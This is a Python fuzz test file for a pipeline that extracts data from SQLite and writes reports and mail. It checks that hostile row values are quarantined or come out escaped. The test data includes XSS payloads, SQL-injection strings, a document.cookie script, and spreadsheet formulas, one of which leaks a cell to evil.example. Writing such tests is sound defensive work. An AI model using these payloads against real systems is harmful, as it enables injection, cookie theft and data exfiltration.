"""Hostile rows, generated: contract-shaped rows whose values are extremes, NaN and infinities, every control
character, mixed digit scripts, 10 KB strings, SQL, HTML and spreadsheet-formula fragments, written into a real
SQLite source (as the simulator writes it) and taken through extract → checks → findings → reports → mail
(composed in memory, no SMTP).

For every example: each row the source counted is staged, parked or quarantined with a reason (by the source's
own count, and row by row for the rows written); no step crashes; and no hostile fragment comes out live (the
reports and the mail bodies carry it escaped, never as markup). Bounded: a small world built once, a few rows
per example, a fixed number of examples, no deadline.
"""

from __future__ import annotations

import html
import itertools
import shutil
import sqlite3
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipelines.ingest import tables as ingest_tables
from pipelines.ingest.extraction import extract_day
from pipelines.ingest.validation import escape_controls
from pipelines.monitored_day import MonitoredDay
from pipelines.simulator import SimScale
from pipelines.simulator.run import simulate_into
from pipelines.source.reader import ENTITY_KEYS, open_source
from pipelines.store.engine import sqlite_path, store_engine
from tests.pipeline_helpers import END_DAY, SEED

pytestmark = pytest.mark.e2e
DAY = END_DAY - timedelta(days=2)
NEXT = DAY + timedelta(days=1)
TINY = SimScale(sellers_per_province=2, offers_per_seller=3, orders_per_day=40, members=200)
EXTRACTED_AT = MonitoredDay(NEXT).end + timedelta(hours=1)

# ---------------------------------------------------------------- hostile values

LIVE_FRAGMENTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=//evil.example>", "</td></tr></table><h1>owned</h1>", "{{ 7*7 }}{% raw %}",
    "![x](https://evil.example/p.png) [click](https://evil.example)",
)
FORMULAS = ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0")
SQL = ("'; DROP TABLE offers; --", "1 OR 1=1", "x'); DELETE FROM monitoring.finding; --", "\\'; SELECT pg_sleep(5); --")
CONTROLS = tuple(chr(c) for c in itertools.chain(range(0x00, 0x20), range(0x7F, 0xA0)))
DIGIT_MIXES = ("۱۲۳٤٥٦", "١٢٣456", "۱٬۰۰۰٫۵", "12,345", "٣e٥", "1e308", "-1e308", "1e23", "9" * 40, "0x1F", "1_000")
NUMBERS = (float("nan"), float("inf"), float("-inf"), 1e308, -1e308, 1e23, 5e-324, -0.0, 0, 2**63, 2**64 + 1,
           -(2**63) - 1, "NaN", "Infinity", "-inf", "", " ", *DIGIT_MIXES)
TIMESTAMPS = ("2099-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00", "1969-12-31T23:59:59+00:00",
              "2026-02-30T10:00:00+00:00", "2026-13-01T00:00:00Z", "2026-11-18T25:61:00+03:30", "۲۰۲۶-۱۱-۱۸T10:00:00Z",
              "2026-11-18", "yesterday", "0000-01-01T00:00:00Z", "2026-11-18T10:00:00+99:99")

text_values = st.one_of(
    st.sampled_from(LIVE_FRAGMENTS + FORMULAS + SQL),
    st.builds(lambda c, a, b: f"{a}{c}{b}", st.sampled_from(CONTROLS), st.sampled_from(("شرکت", "x", "")),
              st.sampled_from(("نمونه", "y", ""))),
    st.builds(lambda s, n: s * n, st.sampled_from(("ب", "<b>", "=")), st.integers(2_000, 10_240)),
    st.text(min_size=1, max_size=40),  # anything Unicode, surrogates aside
)
number_values = st.one_of(st.sampled_from(NUMBERS), st.floats(allow_nan=True, allow_infinity=True),
                          st.integers(-(2**70), 2**70).map(str))
timestamp_values = st.sampled_from(TIMESTAMPS)

# the fields a hostile value may land in, per entity and kind
FIELDS = {
    "sellers": {"text": ["display_name", "unit_id"], "number": [], "timestamp": ["joined_at", "updated_at"]},
    "offers": {"text": ["title", "category_code", "unit", "status"],
               "number": ["unit_price_rial", "stock_qty", "promised_lead_days", "nesieh_months"],
               "timestamp": ["created_at", "updated_at"]},
    "orders": {"text": ["buyer_member_id", "payment"], "number": ["quantity", "unit_price_rial"],
               "timestamp": ["ordered_at", "promised_at", "updated_at"]},
    "deliveries": {"text": ["status", "received_quality", "complaint"],
                   "number": ["delivered_qty", "returned_qty", "buyer_rating"],
                   "timestamp": ["shipped_at", "delivered_at", "updated_at"]},
}


@st.composite
def hostile_rows(draw) -> list[tuple[str, str, str, object]]:
    """(entity, base row key, field, value): a real row of the source, one field made hostile."""
    rows = []
    for _ in range(draw(st.integers(3, 7))):
        entity = draw(st.sampled_from(list(FIELDS)))
        kind = draw(st.sampled_from([k for k, names in FIELDS[entity].items() if names]))
        field = draw(st.sampled_from(FIELDS[entity][kind]))
        value = draw({"text": text_values, "number": number_values, "timestamp": timestamp_values}[kind])
        rows.append((entity, draw(st.integers(0, 10_000)), field, value))
    return rows


# ---------------------------------------------------------------- the world, built once


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> Path:
    """A simulated SQLite source as of the end of NEXT, and a store monitored up to DAY."""
    from pipelines.orchestration.daily_steps import check, update_findings
    from pipelines.settings import Settings

    var = tmp_path_factory.mktemp("fuzz-world")
    settings = Settings(var_dir=var)
    simulate_into(settings, SEED, 10, END_DAY, MonitoredDay(NEXT).end, TINY)
    extract_day(open_source(settings), store_engine(settings), DAY, "history", extracted_at=EXTRACTED_AT)
    check(settings, DAY, "history")
    update_findings(settings, DAY, "history")
    store_engine(settings).dispose()
    return var


def _copy_world(world: Path, target: Path):
    from pipelines.settings import Settings

    if target.exists():
        shutil.rmtree(target)
    (target / "sim").mkdir(parents=True)
    for name in ("rasad.db", "sim/ombazar.db"):
        with sqlite3.connect(world / name) as source, sqlite3.connect(target / name) as copy:
            source.backup(copy)
    return Settings(var_dir=target)


def _sqlite_value(value: object) -> object:
    if isinstance(value, int) and not -(2**63) <= value < 2**63:
        return str(value)  # SQLite holds 64-bit integers; a larger one arrives as text, as a typist would send it
    return value


def _write_hostile(settings, drawn) -> list[tuple[str, str, str]]:
    """Write each drawn row into the source as a new row (a fresh key, updated during NEXT, unless the
    hostile field is updated_at itself); return (entity, key, updated_at) of what was written."""
    engine = sa.create_engine(f"sqlite:///{sqlite_path(settings.resolved_source_url)}")
    written = []
    at = (MonitoredDay(NEXT).start + timedelta(hours=2)).isoformat()
    with engine.begin() as conn:
        for n, (entity, pick, field, value) in enumerate(drawn):
            key = ENTITY_KEYS[entity]
            rows = conn.execute(sa.text(f"SELECT * FROM {entity} WHERE {key} IS NOT NULL")).mappings().all()
            row = dict(rows[pick % len(rows)])
            row[key] = f"FUZZ-{n}-{row[key]}"
            row["updated_at"] = at
            row[field] = _sqlite_value(value)
            columns = list(row)
            conn.execute(sa.text(f"INSERT INTO {entity} ({', '.join(columns)}) "
                                 f"VALUES ({', '.join(':' + c for c in columns)})"), row)
            written.append((entity, row[key], row["updated_at"]))
    engine.dispose()
    return written


def _accounted_ids(settings) -> dict[str, set[str]]:
    """Every key staged, parked or quarantined, per entity (quarantine keys as stored: controls escaped)."""
    found: dict[str, set[str]] = {}
    with store_engine(settings).connect() as conn:
        for entity, key in ENTITY_KEYS.items():
            table = ingest_tables.STAGING_TABLES[entity]
            found[entity] = set(conn.execute(sa.select(table.c[key])).scalars())
        for t in (ingest_tables.quarantine, ingest_tables.parked):
            for entity, source_id in conn.execute(sa.select(t.c.entity, t.c.source_id)).all():
                found[entity].add(source_id)
        reasons = conn.execute(sa.select(ingest_tables.quarantine.c.reason)).scalars().all()
    assert all(r and r.strip() for r in reasons)  # every quarantine row says why
    return found


# what markup would look like had a fragment come out live (digits may come out Persian, so none are matched)
LIVE_MARKS = ("<script", "<iframe", "<img src=x", "onerror=", "javascript:", "<h1>owned", "</table><h1>")


def _assert_not_live(text: str, where: str) -> None:
    lowered = text.lower()
    for mark in LIVE_MARKS:
        assert mark not in lowered, (where, mark)


def _message_texts(composed) -> list[tuple[str, str]]:
    messages, failures = composed  # a message that could not be composed is recorded with its reason
    assert all(f.reason for f in failures)
    out = []
    for m in messages:
        raw = m.message.as_bytes()  # every message serialises (no header injection, no illegal character)
        assert raw
        for part in m.message.walk():
            if part.get_content_type() in ("text/html", "text/plain"):
                out.append((f"{m.key}:{part.get_content_type()}", part.get_content()))
    return out


def _extract_hostile(world: Path, tmp_path: Path, drawn):
    """A fresh copy of the world with the drawn rows in its source, extracted for NEXT and checked row by row."""
    settings = _copy_world(world, tmp_path / "var")
    written = _write_hostile(settings, drawn)
    counts = extract_day(open_source(settings), store_engine(settings), NEXT, "fuzz", extracted_at=EXTRACTED_AT)
    for c in counts:  # by the source's own count
        assert c.rows_read_at_source == c.rows_fetched, c
        assert c.balanced, c
    found = _accounted_ids(settings)
    for entity, key, _ in written:  # and row by row
        stored = escape_controls(pd.Series([key])).iloc[0]
        assert key in found[entity] or stored in found[entity], (entity, key)
    return settings


FUZZ = dict(deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                      HealthCheck.too_slow])


@settings(max_examples=5, **FUZZ)
@given(drawn=hostile_rows())
def test_hostile_rows_are_each_staged_or_quarantined(world, tmp_path, drawn):
    settings = _extract_hostile(world, tmp_path, drawn)
    store_engine(settings).dispose()


@settings(max_examples=1, **FUZZ)
@given(drawn=hostile_rows())
def test_hostile_rows_go_through_checks_reports_and_mail_without_a_crash_or_live_markup(world, tmp_path, drawn):
    from pipelines.mail.daily import compose_day
    from pipelines.orchestration.daily_steps import check, update_findings

    settings = _extract_hostile(world, tmp_path, drawn)
    check(settings, NEXT, "fuzz")
    update_findings(settings, NEXT, "fuzz")
    # the officers' mail carries each province's HTML report as its body: composing it renders every report
    for where, text in _message_texts(compose_day(store_engine(settings), settings, NEXT)):
        if where.endswith("html"):
            _assert_not_live(text, where)
        else:
            assert "\x00" not in text and "\r" not in text.replace("\r\n", "\n"), where
    store_engine(settings).dispose()


def test_live_fragments_reach_the_reports_escaped(world, tmp_path):
    """The fuzz's negative assertion has teeth: a hostile seller name that passes the contract (markup is text)
    reaches the officer's report and mail, escaped."""
    from pipelines.mail.daily import compose_day
    from pipelines.orchestration.daily_steps import check, update_findings, write_reports

    settings = _copy_world(world, tmp_path / "var")
    name = "<script>alert(document.cookie)</script>"
    engine = sa.create_engine(f"sqlite:///{sqlite_path(settings.resolved_source_url)}")
    at = (MonitoredDay(NEXT).start + timedelta(hours=2)).isoformat()
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE sellers SET display_name = :n, updated_at = :at"), {"n": name, "at": at})
    engine.dispose()
    extract_day(open_source(settings), store_engine(settings), NEXT, "fuzz", extracted_at=EXTRACTED_AT)
    check(settings, NEXT, "fuzz")
    update_findings(settings, NEXT, "fuzz")
    pages = [Path(p).read_text(encoding="utf-8") for p in write_reports(settings, NEXT, "fuzz")]
    escaped = html.escape(name, quote=False)
    assert any(escaped in page for page in pages), "no report names a seller: the fuzz could not see markup"
    for page in pages:
        _assert_not_live(page, "report")
    bodies = [t for w, t in _message_texts(compose_day(store_engine(settings), settings, NEXT)) if w.endswith("html")]
    assert any(escaped in b for b in bodies)
    store_engine(settings).dispose()
